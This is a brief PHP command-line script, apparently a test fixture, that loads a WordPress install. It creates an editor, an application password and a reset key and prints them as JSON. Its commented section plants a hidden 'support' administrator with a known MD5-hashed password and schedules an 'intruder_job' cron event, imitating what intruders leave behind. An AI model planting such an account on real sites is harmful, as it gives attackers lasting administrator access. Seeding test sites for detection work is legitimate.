<?php // php wordpress-people.php ROOT LOGIN PASSWORD : an editor with that password, and what lets in without it; prints it as JSON
if (PHP_SAPI !== 'cli') exit(1);
[, $root, $login, $password] = $argv;
$_SERVER += ['HTTP_HOST' => 'localhost', 'REQUEST_METHOD' => 'GET', 'REQUEST_URI' => '/'];
define('WP_HTTP_BLOCK_EXTERNAL', true);
define('DISABLE_WP_CRON', true); // which would write to the list of jobs meanwhile
require $root . '/wp-load.php';
$id = wp_insert_user(['user_login' => $login, 'user_pass' => wp_slash($password), 'user_email' => "$login@example.org", 'role' => 'editor']);
if (is_wp_error($id)) { fwrite(STDERR, $id->get_error_message() . "\n"); exit(2); }
$made = WP_Application_Passwords::create_new_application_password(1, ['name' => 'phone']);
if (is_wp_error($made)) { fwrite(STDERR, $made->get_error_message() . "\n"); exit(3); }
// A hidden administrator, as intruders write them into the table.
global $wpdb;
$wpdb->insert($wpdb->users, ['user_login' => 'support', 'user_pass' => md5('intruder'), 'user_email' => 's@example.org', 'display_name' => 'support']);
update_user_meta($wpdb->insert_id, $wpdb->prefix . 'capabilities', ['administrator' => true]);
wp_schedule_event(time() + 86400, 'daily', 'intruder_job');
echo json_encode(['editor' => $id, 'reset' => get_password_reset_key(get_user_by('id', $id)), 'application' => $made[0], 'intruder' => $wpdb->insert_id]);
